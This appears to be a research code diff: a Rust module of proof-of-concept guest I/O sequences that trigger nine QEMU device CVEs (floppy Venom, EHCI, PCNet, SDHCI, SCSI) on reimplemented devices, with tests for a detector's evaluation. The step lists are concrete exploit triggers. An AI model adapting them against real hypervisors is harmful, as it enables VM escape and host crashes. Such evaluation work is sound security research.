@@ -1,0 +1,376 @@
+//! Proof-of-concept I/O streams for the eight CVEs of the paper's
+//! Table III.
+//!
+//! Each PoC drives the re-implemented vulnerable code path of its
+//! device. Against an unprotected device it produces the CVE's ground
+//! truth effect (buffer spill, control-flow hijack, crash, or hang);
+//! under SEDSpec, the strategies ticked in Table III detect it.
+
+use sedspec::checker::Strategy;
+use sedspec::collect::TrainStep;
+use sedspec_devices::{DeviceKind, QemuVersion};
+use sedspec_vmm::{AddressSpace, IoRequest};
+
+/// The eight reproduced vulnerabilities.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
+pub enum Cve {
+    /// Venom: FDC FIFO overflow via unbounded `data_pos`.
+    Cve2015_3456,
+    /// USB EHCI: `setup_len` committed before validation.
+    Cve2020_14364,
+    /// PCNet: loopback CRC append overruns onto the irq pointer.
+    Cve2015_7504,
+    /// PCNet: receive path missing the frame-size bound.
+    Cve2015_7512,
+    /// PCNet: zero-length receive ring scan never terminates.
+    Cve2016_7909,
+    /// SDHCI: `blksize` mutable mid-transfer; underflowed tail length.
+    Cve2021_3409,
+    /// SCSI: reserved CDB group executed; sense fill overruns the FIFO.
+    Cve2015_5158,
+    /// SCSI: FIFO write pointer unbounded.
+    Cve2016_4439,
+    /// SCSI reset forgets to reinitialize the pending transfer — the
+    /// use-after-free shape the paper reports as SEDSpec's known miss
+    /// (not part of Table III's eight; see `Cve::all_with_known_miss`).
+    Cve2016_1568,
+}
+
+impl Cve {
+    /// All eight, in Table III order.
+    pub fn all() -> [Cve; 8] {
+        [
+            Cve::Cve2015_3456,
+            Cve::Cve2020_14364,
+            Cve::Cve2015_7504,
+            Cve::Cve2015_7512,
+            Cve::Cve2016_7909,
+            Cve::Cve2021_3409,
+            Cve::Cve2015_5158,
+            Cve::Cve2016_4439,
+        ]
+    }
+
+    /// CVE identifier string.
+    pub fn id(self) -> &'static str {
+        match self {
+            Cve::Cve2015_3456 => "CVE-2015-3456",
+            Cve::Cve2020_14364 => "CVE-2020-14364",
+            Cve::Cve2015_7504 => "CVE-2015-7504",
+            Cve::Cve2015_7512 => "CVE-2015-7512",
+            Cve::Cve2016_7909 => "CVE-2016-7909",
+            Cve::Cve2021_3409 => "CVE-2021-3409",
+            Cve::Cve2015_5158 => "CVE-2015-5158",
+            Cve::Cve2016_4439 => "CVE-2016-4439",
+            Cve::Cve2016_1568 => "CVE-2016-1568",
+        }
+    }
+
+    /// Table III's eight plus the documented miss.
+    pub fn all_with_known_miss() -> [Cve; 9] {
+        [
+            Cve::Cve2015_3456,
+            Cve::Cve2020_14364,
+            Cve::Cve2015_7504,
+            Cve::Cve2015_7512,
+            Cve::Cve2016_7909,
+            Cve::Cve2021_3409,
+            Cve::Cve2015_5158,
+            Cve::Cve2016_4439,
+            Cve::Cve2016_1568,
+        ]
+    }
+}
+
+/// A ready-to-run exploitation case study.
+#[derive(Debug, Clone)]
+pub struct Poc {
+    /// Which vulnerability.
+    pub cve: Cve,
+    /// Target device.
+    pub device: DeviceKind,
+    /// Affected QEMU behaviour version (Table III column 3).
+    pub qemu_version: QemuVersion,
+    /// The malicious guest interaction.
+    pub steps: Vec<TrainStep>,
+    /// Strategies the paper's Table III ticks for this CVE.
+    pub detected_by: &'static [Strategy],
+}
+
+fn wr(port: u64, v: u64) -> TrainStep {
+    TrainStep::Io(IoRequest::write(AddressSpace::Pmio, port, 1, v))
+}
+
+fn wr16(port: u64, v: u64) -> TrainStep {
+    TrainStep::Io(IoRequest::write(AddressSpace::Pmio, port, 2, v))
+}
+
+fn mmio_w(addr: u64, v: u64) -> TrainStep {
+    TrainStep::Io(IoRequest::write(AddressSpace::Mmio, addr, 4, v))
+}
+
+fn mem(gpa: u64, bytes: Vec<u8>) -> TrainStep {
+    TrainStep::MemWrite { gpa, bytes }
+}
+
+fn frame(payload: Vec<u8>) -> TrainStep {
+    TrainStep::Io(IoRequest::net_frame(payload))
+}
+
+/// Builds the PoC for a CVE.
+pub fn poc(cve: Cve) -> Poc {
+    use Strategy::*;
+    match cve {
+        Cve::Cve2015_3456 => {
+            // DRIVE SPECIFICATION, then non-terminator bytes forever.
+            let mut steps = vec![wr(0x3f5, 0x8e)];
+            for _ in 0..600 {
+                steps.push(wr(0x3f5, 0x01));
+            }
+            Poc {
+                cve,
+                device: DeviceKind::Fdc,
+                qemu_version: QemuVersion::V2_3_0,
+                steps,
+                detected_by: &[Parameter, ConditionalJump],
+            }
+        }
+        Cve::Cve2020_14364 => {
+            // Oversized wLength committed before validation, then OUT
+            // tokens march setup_index past data_buf onto the irq pointer.
+            let mut steps = vec![
+                mmio_w(0x2000, 1),      // USBCMD run
+                mmio_w(0x2018, 0x1000), // ASYNCLISTADDR
+                // SETUP: wLength = 0x1200 (4608 > 4096).
+                mem(0x5000, vec![0x00, 0x00, 0, 0, 0, 0, 0x00, 0x12]),
+                mem(0x1000, 0x2du32.to_le_bytes().to_vec()),
+                mem(0x1004, 0x5000u32.to_le_bytes().to_vec()),
+                mmio_w(0x2020, 1),
+                // Attacker-controlled payload (lands on setup_index/irq).
+                mem(0x7000, vec![0x41; 0x1000]),
+            ];
+            // OUT #1: fills data_buf exactly (4096 bytes).
+            steps.push(mem(0x1000, ((0x1000u32 << 16) | 0xe1).to_le_bytes().to_vec()));
+            steps.push(mem(0x1004, 0x7000u32.to_le_bytes().to_vec()));
+            steps.push(mmio_w(0x2020, 1));
+            // OUT #2: 512 bytes past the end.
+            steps.push(mem(0x1000, ((0x200u32 << 16) | 0xe1).to_le_bytes().to_vec()));
+            steps.push(mem(0x1004, 0x7000u32.to_le_bytes().to_vec()));
+            steps.push(mmio_w(0x2020, 1));
+            Poc {
+                cve,
+                device: DeviceKind::UsbEhci,
+                qemu_version: QemuVersion::V5_1_0,
+                steps,
+                detected_by: &[Parameter, IndirectJump],
+            }
+        }
+        Cve::Cve2015_7504 => {
+            // Loopback mode + a 4096-byte frame: the CRC append lands on
+            // the irq pointer through a temporary index.
+            let mut steps = pcnet_attack_bring_up(4);
+            steps.push(frame(vec![0x11; 4096]));
+            Poc {
+                cve,
+                device: DeviceKind::Pcnet,
+                qemu_version: QemuVersion::V2_4_0,
+                steps,
+                detected_by: &[IndirectJump],
+            }
+        }
+        Cve::Cve2015_7512 => {
+            // Non-loopback oversized frame: wholesale buffer overrun.
+            let mut steps = pcnet_attack_bring_up(0);
+            steps.push(frame(vec![0x22; 4104]));
+            Poc {
+                cve,
+                device: DeviceKind::Pcnet,
+                qemu_version: QemuVersion::V2_4_0,
+                steps,
+                detected_by: &[Parameter, IndirectJump],
+            }
+        }
+        Cve::Cve2016_7909 => {
+            // Zero receive ring length, then any frame: infinite scan.
+            let mut steps = pcnet_attack_bring_up(0);
+            steps.push(wr16(0x312, 76));
+            steps.push(wr16(0x310, 0));
+            steps.push(frame(vec![0x00; 64]));
+            Poc {
+                cve,
+                device: DeviceKind::Pcnet,
+                qemu_version: QemuVersion::V2_6_0,
+                steps,
+                detected_by: &[ConditionalJump],
+            }
+        }
+        Cve::Cve2021_3409 => {
+            // Start a 512-byte SDMA multi-block write, shrink blksize at
+            // the boundary pause, acknowledge to resume.
+            Poc {
+                cve,
+                device: DeviceKind::Sdhci,
+                qemu_version: QemuVersion::V5_2_0,
+                steps: vec![
+                    mem(0x8000, vec![0x55; 0x8000]),
+                    mmio_w(0x3000, 0x8000), // SDMASYSAD
+                    mmio_w(0x3004, 512),    // BLKSIZE
+                    mmio_w(0x3006, 2),      // BLKCNT
+                    mmio_w(0x300c, 0x21),   // TRNMOD: DMA | MULTI
+                    mmio_w(0x300e, 25 << 8),
+                    mmio_w(0x3004, 128), // the mid-transfer shrink
+                    mmio_w(0x3030, 8),   // ack DMA_INT: resume underflows
+                ],
+                detected_by: &[Parameter],
+            }
+        }
+        Cve::Cve2015_5158 => {
+            // Reserved CDB group, oversized allocation length.
+            let mut steps = vec![wr(0xc03, 0x01)];
+            for b in [0xffu64, 0, 0, 0, 200, 0] {
+                steps.push(wr(0xc02, b));
+            }
+            steps.push(wr(0xc03, 0x42));
+            Poc {
+                cve,
+                device: DeviceKind::Scsi,
+                qemu_version: QemuVersion::V2_4_0,
+                steps,
+                detected_by: &[ConditionalJump],
+            }
+        }
+        Cve::Cve2016_1568 => {
+            // Set up a READ(10) of sector 7 to guest 0xb000, reset the
+            // controller (the vulnerable reset keeps the pending state),
+            // then fire TRANSFER INFORMATION: the stale command runs and
+            // discloses disk data after a reset that should have killed it.
+            let mut steps = vec![wr(0xc03, 0x01)];
+            for b in [0x28u64, 0, 0, 0, 0, 7, 0, 0, 1, 0] {
+                steps.push(wr(0xc02, b));
+            }
+            steps.push(wr(0xc03, 0x42)); // SELATN latches the command
+            steps.push(wr(0xc03, 0x02)); // RESET — should clear it, doesn't
+            steps.push(TrainStep::Io(IoRequest::write(AddressSpace::Pmio, 0xc08, 2, 0xb000)));
+            steps.push(wr(0xc09, 0));
+            steps.push(wr(0xc03, 0x10)); // TI drives the stale transfer
+            Poc {
+                cve,
+                device: DeviceKind::Scsi,
+                qemu_version: QemuVersion::V2_4_0,
+                steps,
+                detected_by: &[], // the paper's documented miss
+            }
+        }
+        Cve::Cve2016_4439 => {
+            // 24 FIFO writes walk the pointer into cmdbuf; SELATN then
+            // dispatches the corrupted CDB.
+            let mut steps = vec![wr(0xc03, 0x01)];
+            for k in 0..24u64 {
+                steps.push(wr(0xc02, 0xd0 + k));
+            }
+            steps.push(wr(0xc03, 0x42));
+            Poc {
+                cve,
+                device: DeviceKind::Scsi,
+                qemu_version: QemuVersion::V2_6_0,
+                steps,
+                detected_by: &[ConditionalJump],
+            }
+        }
+    }
+}
+
+/// Attack-side NIC bring-up: 4096-byte receive descriptor, ring length 8.
+fn pcnet_attack_bring_up(mode: u16) -> Vec<TrainStep> {
+    let mut steps = vec![
+        mem(0x1000, mode.to_le_bytes().to_vec()),
+        mem(0x1004, 0x2000u32.to_le_bytes().to_vec()),
+        mem(0x1008, 0x3000u32.to_le_bytes().to_vec()),
+        mem(0x100c, 8u16.to_le_bytes().to_vec()),
+        mem(0x100e, 4u16.to_le_bytes().to_vec()),
+        mem(0x2000, 0x4000u32.to_le_bytes().to_vec()),
+        mem(0x2004, 4096u16.to_le_bytes().to_vec()),
+        mem(0x2006, 0x8000u16.to_le_bytes().to_vec()),
+    ];
+    for (csr, val) in [(1u64, 0x1000u64), (2, 0), (0, 1), (0, 2)] {
+        steps.push(wr16(0x312, csr));
+        steps.push(wr16(0x310, val));
+    }
+    steps
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use sedspec::collect::apply_step;
+    use sedspec_devices::build_device;
+    use sedspec_dbl::interp::{ExecLimits, Fault};
+    use sedspec_vmm::VmContext;
+
+    /// Ground truth: every PoC must visibly damage the *unprotected*
+    /// vulnerable device (spill, overflow flag, hijack, or crash).
+    #[test]
+    fn pocs_exploit_vulnerable_devices() {
+        for cve in Cve::all() {
+            let p = poc(cve);
+            let mut d = build_device(p.device, p.qemu_version);
+            d.set_limits(ExecLimits { max_steps: 50_000 });
+            let mut ctx = VmContext::new(0x100000, 4096);
+            let mut spills = 0u64;
+            let mut overflowed = false;
+            let mut fault: Option<Fault> = None;
+            for step in &p.steps {
+                let Some(req) = apply_step(step, &mut ctx) else { continue };
+                match d.handle_io(&mut ctx, req) {
+                    Ok(out) => {
+                        spills += out.spills;
+                        overflowed |= out.overflow.arithmetic;
+                    }
+                    Err(f) => {
+                        fault = Some(f);
+                        break;
+                    }
+                }
+            }
+            assert!(
+                spills > 0 || overflowed || fault.is_some(),
+                "{}: PoC had no effect",
+                p.cve.id()
+            );
+        }
+    }
+
+    /// Patched devices shrug all eight PoCs off.
+    #[test]
+    fn pocs_are_harmless_on_patched_devices() {
+        for cve in Cve::all() {
+            let p = poc(cve);
+            let mut d = build_device(p.device, QemuVersion::Patched);
+            d.set_limits(ExecLimits { max_steps: 50_000 });
+            let mut ctx = VmContext::new(0x100000, 4096);
+            for step in &p.steps {
+                let Some(req) = apply_step(step, &mut ctx) else { continue };
+                let out = d
+                    .handle_io(&mut ctx, req)
+                    .unwrap_or_else(|f| panic!("{}: patched device crashed: {f}", p.cve.id()));
+                assert_eq!(out.spills, 0, "{}: patched device spilled", p.cve.id());
+            }
+        }
+    }
+
+    #[test]
+    fn table_iii_metadata_is_consistent() {
+        for cve in Cve::all() {
+            let p = poc(cve);
+            assert!(!p.detected_by.is_empty());
+            assert!(!p.steps.is_empty());
+            assert!(
+                p.qemu_version.has_vulnerability(p.qemu_version),
+                "{}: version knob sanity",
+                p.cve.id()
+            );
+        }
+        assert_eq!(poc(Cve::Cve2015_3456).qemu_version.to_string(), "v2.3.0");
+        assert_eq!(poc(Cve::Cve2021_3409).qemu_version.to_string(), "v5.2.0");
+    }
+}
